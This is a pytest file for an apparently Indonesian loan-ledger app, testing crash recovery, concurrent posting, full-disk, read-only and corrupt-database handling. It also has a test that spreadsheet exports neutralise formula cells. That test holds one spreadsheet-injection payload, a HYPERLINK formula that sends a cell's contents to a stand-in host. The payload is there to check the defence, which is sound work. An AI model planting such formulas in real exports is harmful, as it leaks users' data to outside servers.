"""Crash and fault safety, proven: killed posters, three desks on one file, full disks, read-only files,
corrupt files and poisoned spreadsheet cells.

The posting workload is ``benchmarks/workloads.py`` (a payment-shaped transaction under an idempotency key);
``benchmarks/kill_test.py`` and ``benchmarks/concurrency_test.py`` run the same drivers for longer.
"""
from __future__ import annotations

import importlib.util
import sqlite3
import sys
from pathlib import Path

import peewee
import pytest

from models.core import audit
from models.core import db as dbmod
from models.core.errors import DatabaseUnavailable
from models.core.office import Setting, get_setting, put_setting

ROOT = Path(__file__).resolve().parents[2]
_spec = importlib.util.spec_from_file_location("angsur_workloads", ROOT / "benchmarks" / "workloads.py")
workloads = importlib.util.module_from_spec(_spec)
sys.modules["angsur_workloads"] = workloads  # dataclasses look their module up by name
_spec.loader.exec_module(workloads)


@pytest.fixture
def crash_db(tmp_path):
    path = tmp_path / "kasir.db"
    workloads.prepare(path)
    yield path
    dbmod.close_database()


def test_a_poster_killed_at_random_points_loses_nothing_and_posts_nothing_twice(crash_db):
    figures = workloads.kill_rounds(crash_db, rounds=55, seed=2026, max_delay=0.2)

    assert figures.kills == 55
    assert figures.errors == []
    assert figures.failures == []  # after EVERY kill: check passes, journals balance, loans = ledger,
    #                                every ACKed key present once, receipts gap-free
    assert figures.acked >= 55  # the kills really landed while payments were being posted
    final = workloads.verify(crash_db)
    assert final.ok and final.payments == final.keys


def test_a_payment_committed_before_the_crash_is_not_posted_again_by_the_retry(crash_db):
    dbmod.open_database(crash_db, migrate=False)
    first = workloads.post_payment_like("FORM-1")
    # The process "dies" here, after the commit and before the receipt printed; the form retries.
    again = workloads.post_payment_like("FORM-1")
    assert not first.replayed and again.replayed and again.ref == first.ref
    dbmod.close_database()
    verdict = workloads.verify(crash_db, {"FORM-1"})
    assert verdict.ok and verdict.payments == 1


def test_three_desks_posting_into_one_file_never_lock_out_or_double_post(crash_db):
    figures = workloads.concurrent_posting(crash_db, processes=3, count=80)

    assert figures.locked_errors == 0
    assert figures.other_errors == []
    assert figures.acked == 240
    verdict = workloads.verify(crash_db)
    assert verdict.ok, verdict
    assert verdict.payments == 240 and verdict.duplicate_keys == []  # unique, gap-free receipts 1..240


def _counts():
    return (audit.AuditLog.select().count(), Setting.select().count())


def _settings_action():
    audit.record(None, "settings.change", "setting", "catatan")
    put_setting("catatan.panjang", "x" * 400_000)  # needs many new pages


def _fill_the_disk(db):
    pages = db.execute_sql("PRAGMA page_count").fetchone()[0]
    db.execute_sql(f"PRAGMA max_page_count = {pages}")  # the disk is full: not one page more


def test_a_full_disk_writes_nothing(db):
    before = _counts()
    _fill_the_disk(db)
    with pytest.raises(DatabaseUnavailable):
        dbmod.run_in_transaction(_settings_action)
    db.execute_sql("PRAGMA max_page_count = 1073741823")
    assert _counts() == before and get_setting("catatan.panjang") is None
    assert audit.verify_chain() == []
    dbmod.run_in_transaction(_settings_action)  # space again: the same action goes through
    assert _counts()[0] == before[0] + 1


def test_a_full_disk_gives_a_clear_message(db):
    _fill_the_disk(db)
    with pytest.raises(DatabaseUnavailable, match="disk is full: nothing was saved"):
        dbmod.run_in_transaction(_settings_action)


def test_a_read_only_database_gives_a_clear_message_and_writes_nothing(db):
    before = _counts()
    db.execute_sql("PRAGMA query_only = 1")
    try:
        with pytest.raises(DatabaseUnavailable, match="read-only: nothing was saved"):
            dbmod.run_in_transaction(_settings_action)
    finally:
        db.execute_sql("PRAGMA query_only = 0")
    assert _counts() == before


def test_a_file_opened_read_only_gives_the_same_clear_message(db):
    path = Path(db.database)
    before = _counts()
    # As root, chmod does not stop writes; a read-only open (mode=ro) is what a read-only file gives.
    ro = peewee.SqliteDatabase(f"{path.as_uri()}?mode=ro", uri=True, pragmas={"busy_timeout": 1000})
    ro.connect()
    dbmod.database.initialize(ro)
    try:
        with pytest.raises(DatabaseUnavailable, match="read-only"):
            dbmod.run_in_transaction(_settings_action)
    finally:
        ro.close()
        dbmod.database.initialize(db)
    assert _counts() == before


def test_a_file_that_is_not_a_database_is_refused_with_advice_to_restore(tmp_path):
    path = tmp_path / "angsur.db"
    path.write_bytes(b"\x00" * 16 + b"laporan bulanan" * 500)
    with pytest.raises(DatabaseUnavailable, match="restore"):
        dbmod.open_database(path)
    assert path.read_bytes().startswith(b"\x00" * 16)  # left as it was


def test_a_database_with_damaged_pages_is_refused_with_advice_to_restore(empty_template, tmp_path):
    path = tmp_path / "angsur.db"
    src, dst = sqlite3.connect(str(empty_template)), sqlite3.connect(str(path))
    src.backup(dst)
    dst.execute("PRAGMA journal_mode=DELETE")
    dst.close()
    src.close()
    data = bytearray(path.read_bytes())
    data[100:400] = b"\xff" * 300  # page 1 after the file header: the schema's b-tree
    path.write_bytes(bytes(data))
    with pytest.raises(DatabaseUnavailable, match="restore the latest backup"):
        dbmod.open_database(path)


def test_exports_neutralise_formula_cells(tmp_path):
    from openpyxl import load_workbook

    from reports.base import Column, ReportTable
    from reports.xlsx import write_xlsx

    names = ['=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")', "+62812", "-1+1", "@SUM(A1)", "\tTab",
             "\rCR", "Siti Aminah"]
    table = ReportTable("Nasabah", (Column("name", "Nama"),), tuple({"name": n} for n in names))
    path = write_xlsx(table, tmp_path / "nasabah.xlsx")
    ws = load_workbook(path).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    quoted = [c for c in cells if str(c.value).startswith("'")]
    assert len(quoted) == len(names) - 1  # every dangerous name, and only those, is marked as text
    assert all(c.data_type == "s" for c in quoted)
    assert "'" + names[0] in [c.value for c in quoted]
    assert "Siti Aminah" in [c.value for c in cells]
    assert not any(c.data_type == "f" for c in cells)
